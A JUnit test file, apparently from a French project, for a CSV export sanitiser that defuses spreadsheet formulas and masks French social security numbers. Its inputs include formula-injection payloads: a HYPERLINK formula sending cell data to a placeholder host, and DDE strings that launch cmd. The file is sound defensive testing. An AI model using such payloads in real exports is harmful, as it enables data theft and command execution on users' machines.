package fr.jalon.ecran;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CaseDExportTest {
  @ParameterizedTest
  @ValueSource(strings = {"=HYPERLINK(\"http://x.exemple/?\"&A1)", "+2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1",
      "\r=1+1", "\n=1", "  =1+1",
      "\u00a0=1+1", "\ufeff=1+1", "\uff1dcmd", "\uff0bcmd", "-", "+A1", "-A1", "--1", "-1-1", "+33*2", "-2/3", "+1+1"})
  void une_case_qu_un_tableur_executerait_part_comme_un_texte(String valeur) {
    assertThat(CaseDExport.sansFormule(valeur)).isEqualTo("'" + valeur);
  }

  @ParameterizedTest
  @ValueSource(strings = {"+33612345678", "+33 6 12 34 56 78", "-12,50", "-3", "+1.5", "-1 234,50 €", "N'DIAYE", "12 rue du Pont", "a=b", "É", ""})
  void un_telephone_un_montant_un_nom_restent_lisibles(String valeur) {
    assertThat(CaseDExport.sansFormule(valeur)).isEqualTo(valeur);
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "+2+5+cmd", "-A1", "@SUM(1+1)", "N'DIAYE", "'s-Gravenhage", "+33612345678", ""})
  void une_case_partie_comme_un_texte_se_relit_comme_elle_etait(String valeur) {
    assertThat(CaseDExport.relire(CaseDExport.sansFormule(valeur))).isEqualTo(valeur);
  }

  @Test
  void les_titres_d_un_csv_sont_des_cases_comme_les_autres() throws IOException {
    StringWriter sortie = new StringWriter();
    try (FichierCsv csv = FichierCsv.vers(sortie)) {
      csv.ligne(List.of("=1+1", "Nom"));
      csv.ligne(java.util.Arrays.asList("-A1", null));
    }
    assertThat(sortie.toString()).contains("'=1+1").contains("'-A1").doesNotContain("\n-").doesNotStartWith("=");
  }

  @ParameterizedTest
  @ValueSource(strings = {"2790507186001", "279050718600142", "2 79 05 07 186 001 42", "2.79.05.07.186.001", "1802A12345678x",
      "8107100012345", "7000000000123"})
  void un_nir_est_masque_ou_qu_il_soit_ecrit(String nir) {
    String dit = "son numéro est " + nir + ".";
    assertThat(CaseDExport.sansNir(dit)).isEqualTo(nir.endsWith("x") ? dit : "son numéro est NIR masqué.");
  }

  @ParameterizedTest
  @ValueSource(strings = {"07100008001", "06 12 34 56 78", "765432100000000", "205599000000000", "8205500000000", "+33612345678", "12/03/1985",
      "b.astier@exemple.fr"})
  void ce_qui_n_est_pas_un_nir_reste(String valeur) {
    assertThat(CaseDExport.sansNir(valeur)).isEqualTo(valeur);
  }
}
